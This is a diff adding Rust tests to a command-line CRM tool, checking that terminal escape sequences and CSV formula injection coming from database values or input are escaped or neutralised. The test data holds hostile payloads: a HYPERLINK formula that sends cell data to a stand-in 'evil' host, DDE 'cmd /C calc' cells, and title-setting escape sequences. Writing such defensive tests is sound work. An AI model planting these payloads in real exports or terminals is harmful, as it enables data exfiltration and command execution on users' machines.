@@ -77,3 +77,278 @@ fn legitimate_text_is_accepted_and_stored_nfc() {
         assert_eq!(got, stored);
     }
 }
+
+// ---- Item 5: nothing from the database or the input reaches a terminal raw ----
+
+/// Raw bytes a terminal would obey: ESC, BEL, and a bidi override.
+fn raw_escapes(text: &str) -> bool {
+    text.contains('\u{1b}') || text.contains('\u{7}') || text.contains('\u{202E}')
+}
+
+/// A staffed environment with client 1 named `x<ESC>[2J<RLO>` and company
+/// `=1+2<BEL>` written into the file directly (as `sqlite3` would).
+fn poisoned() -> Env {
+    let env = sales();
+    add_client(&env, "Kevin Casey", "kevin@startup.io");
+    env.sql()
+        .execute_batch(
+            "update clients set full_name = 'x'||char(27)||'[2J'||char(8238), \
+             company_name = '=1+2'||char(7) where id = 1",
+        )
+        .unwrap();
+    env
+}
+
+#[test]
+fn database_values_are_escaped_in_tables_csv_and_show() {
+    let env = poisoned();
+    for args in [
+        &["client", "list"][..],
+        &["client", "list", "--format", "csv"],
+        &["client", "show", "1"],
+        &["contract", "list"],
+    ] {
+        let out = env.run(args, "");
+        assert_ok(&out);
+        let text = stdout(&out);
+        assert!(!raw_escapes(&text), "{args:?} printed raw: {text:?}");
+    }
+    let table = stdout(&env.run(&["client", "list"], ""));
+    assert!(table.contains("x\\e[2J\\u{202E}"), "{table}");
+    let csv = stdout(&env.run(&["client", "list", "--format", "csv"], ""));
+    assert!(csv.contains(",x\\e[2J\\u{202E},"), "{csv}");
+    assert!(csv.contains(",'=1+2\\x07,"), "{csv}");
+    let shown = stdout(&env.run(&["client", "show", "1"], ""));
+    assert!(shown.contains("x\\e[2J\\u{202E}"), "{shown}");
+}
+
+#[test]
+fn json_stays_valid_and_round_trips_with_nothing_raw() {
+    let env = poisoned();
+    for args in [
+        &["client", "list", "--format", "json"][..],
+        &["client", "show", "1", "--format", "json"],
+    ] {
+        let out = env.run(args, "");
+        assert_ok(&out);
+        let text = stdout(&out);
+        assert!(!raw_escapes(&text), "{args:?}: {text:?}");
+        assert!(text.contains(r"x\u001b[2J\u202e"), "{text}");
+        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
+        let client = if value.is_array() { &value[0] } else { &value };
+        assert_eq!(client["full_name"], "x\u{1b}[2J\u{202E}");
+        assert_eq!(client["company_name"], "=1+2\u{7}");
+    }
+}
+
+#[test]
+fn error_messages_never_echo_raw_input() {
+    let env = sales();
+    let cases: Vec<(Vec<&str>, &str, i32)> = vec![
+        (
+            vec!["client", "list", "--sort", "\u{1b}]0;pwned\u{7}"],
+            "--sort: unknown field '\\e]0;pwned\\x07'",
+            5,
+        ),
+        (
+            vec!["collaborator", "show", "a\u{1b}[2J@x.io"],
+            "a\\e[2J@x.io not found",
+            6,
+        ),
+        (
+            vec!["\u{1b}]0;pwned\u{7}"],
+            "unrecognized subcommand '\\e]0;pwned\\x07'",
+            2,
+        ),
+        (
+            vec!["client", "list", "--format", "\u{1b}]0;x\u{7}"],
+            "invalid value '\\e]0;x\\x07' for '--format <FORMAT>'",
+            2,
+        ),
+        (
+            vec!["-c", "client \u{1b}]0;x\u{7}"],
+            "unrecognized subcommand '\\e]0;x\\x07'",
+            2,
+        ),
+        (
+            vec!["-f", "no\u{1b}[2Jscript"],
+            "no script file no\\e[2Jscript",
+            6,
+        ),
+    ];
+    for (args, expected, status) in cases {
+        let out = env.run(&args, "");
+        let err = stderr(&out);
+        assert_code(&out, status);
+        assert!(!raw_escapes(&err), "{args:?} echoed raw: {err:?}");
+        assert!(err.contains(expected), "{args:?}: {err}");
+    }
+    // The same in a script, where the line's words come back in the message.
+    let out = env.script(&[], "client list --sort '\u{1b}]0;pwned\u{7}'\n");
+    assert_code(&out, 5);
+    let err = stderr(&out);
+    assert!(!raw_escapes(&err), "{err:?}");
+    assert!(err.contains("'\\e]0;pwned\\x07'"), "{err}");
+}
+
+/// Runs `epic` with `args` in a pseudo-terminal with colour allowed.
+fn pty(env: &Env, args: &[&str]) -> rexpect::session::PtySession {
+    let mut cmd = env.std_command(env!("CARGO_BIN_EXE_epic"));
+    cmd.env_remove("NO_COLOR").env("TERM", "xterm").args(args);
+    let options = rexpect::reader::Options::new()
+        .timeout_ms(Some(10_000))
+        .strip_ansi_escape_codes(false);
+    rexpect::session::spawn_with_options(cmd, options).expect("spawn epic in a pty")
+}
+
+#[test]
+fn clap_errors_on_a_colour_terminal_are_escaped() {
+    let env = sales();
+    for (args, expected) in [
+        (
+            &["\u{1b}]0;pwned\u{7}"][..],
+            "unrecognized subcommand '\\e]0;pwned\\x07'",
+        ),
+        (
+            &["client", "list", "--format", "\u{1b}]0;x\u{7}"],
+            "invalid value '\\e]0;x\\x07'",
+        ),
+    ] {
+        let mut p = pty(&env, args);
+        let text = p.exp_eof().unwrap();
+        assert!(text.contains(expected), "{args:?}: {text:?}");
+        assert!(!text.contains("\u{1b}]0;"), "{args:?}: {text:?}");
+        assert!(!text.contains('\u{7}'), "{args:?}: {text:?}");
+        // Colour is still allowed for our own label.
+        assert!(text.contains("\u{1b}[1;31merror"), "{text:?}");
+    }
+}
+
+#[test]
+fn the_prompt_escapes_a_poisoned_email() {
+    let env = sales();
+    env.sql()
+        .execute_batch(
+            "update collaborators set email = 'sales1'||char(27)||']0;pwned'||char(7)||'@epic.test' \
+             where email = 'sales1@epic.test'",
+        )
+        .unwrap();
+    let mut p = pty(&env, &[]);
+    let before = p.exp_string("(sales)> ").unwrap();
+    assert!(
+        before.contains("sales1\\e]0;pwned\\x07@epic.test"),
+        "{before:?}"
+    );
+    assert!(!before.contains("\u{1b}]0;pwned"), "{before:?}");
+    p.send_line("exit").unwrap();
+    p.exp_eof().unwrap();
+}
+
+#[test]
+fn completions_and_hints_escape_values_from_the_database() {
+    use rustyline::completion::Completer;
+    use rustyline::hint::Hint;
+    let mut helper = epic::shell::complete::EpicHelper::new(false);
+    helper.set_emails(vec!["s\u{1b}]0;x\u{7}@x.io".into()]);
+    let history = rustyline::history::MemHistory::new();
+    let ctx = rustyline::Context::new(&history);
+    let line = "client reassign 1 --sales s";
+    let (_, pairs) = helper.complete(line, line.len(), &ctx).unwrap();
+    assert_eq!(pairs.len(), 1);
+    // Offered (and inserted) escaped, quoted for the shell line.
+    for text in [&pairs[0].display, &pairs[0].replacement] {
+        assert!(!raw_escapes(text), "{text:?}");
+        assert_eq!(shlex::split(text).unwrap(), ["s\\e]0;x\\x07@x.io"]);
+    }
+    // The hint (the rest of the only candidate) holds nothing raw either.
+    let hint = helper.usage_hint(line, line.len());
+    assert!(
+        hint.as_ref().is_none_or(|h| !raw_escapes(h.display())),
+        "{hint:?}"
+    );
+}
+
+// ---- Item 6: CSV formula injection ----
+
+/// The cells of the CSV row of client `id` in `client list --format csv`,
+/// by header key.
+fn csv_row(env: &Env, id: i64) -> std::collections::BTreeMap<String, String> {
+    let out = env.run(&["client", "list", "--format", "csv"], "");
+    assert_ok(&out);
+    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
+    let headers = reader.headers().unwrap().clone();
+    for row in reader.records() {
+        let row = row.unwrap();
+        if row.get(0) == Some(&id.to_string()) {
+            return headers
+                .iter()
+                .zip(row.iter())
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect();
+        }
+    }
+    panic!("client {id} not in the CSV");
+}
+
+#[test]
+fn csv_cells_that_start_a_formula_are_neutralised() {
+    let env = sales();
+    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
+    let out = env.run(
+        &[
+            "client",
+            "add",
+            "--name",
+            formula,
+            "--email",
+            "evil@x.io",
+            "--phone",
+            "+678 123 456 78",
+            "--company",
+            "@SUM(A1:A9)",
+        ],
+        "",
+    );
+    assert_ok(&out);
+    let row = csv_row(&env, 1);
+    assert_eq!(row["full_name"], format!("'{formula}"));
+    assert_eq!(row["company_name"], "'@SUM(A1:A9)");
+    // Phone numbers, ids and dates come out unchanged.
+    assert_eq!(row["phone"], "+678 123 456 78");
+    assert_eq!(row["id"], "1");
+    assert!(row["created_at"].starts_with("20"), "{row:?}");
+    // JSON and tables keep the value as it is: only CSV is for spreadsheets.
+    let json = env.json(&["client", "show", "1", "--format", "json"]);
+    assert_eq!(json["full_name"], formula);
+
+    // `+`, `-`, tab and CR, written into the file by other means.
+    for (i, (value, expected)) in [
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "\\r=1+1"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        env.sql()
+            .execute("update clients set company_name = ?1 where id = 1", [value])
+            .unwrap();
+        assert_eq!(csv_row(&env, 1)["company_name"], expected, "case {i}");
+    }
+}
+
+#[test]
+fn csv_amounts_stay_numbers() {
+    let env = Env::staffed();
+    let contract = env.contract_for_sales1(1200);
+    let out = env.run(&["contract", "list", "--format", "csv"], "");
+    assert_ok(&out);
+    let text = stdout(&out);
+    let line = text
+        .lines()
+        .find(|l| l.starts_with(&format!("{contract},")))
+        .expect("the contract row");
+    assert!(line.contains(",1200.00,1200.00,"), "{line}");
+    assert!(!line.contains('\''), "{line}");
+}
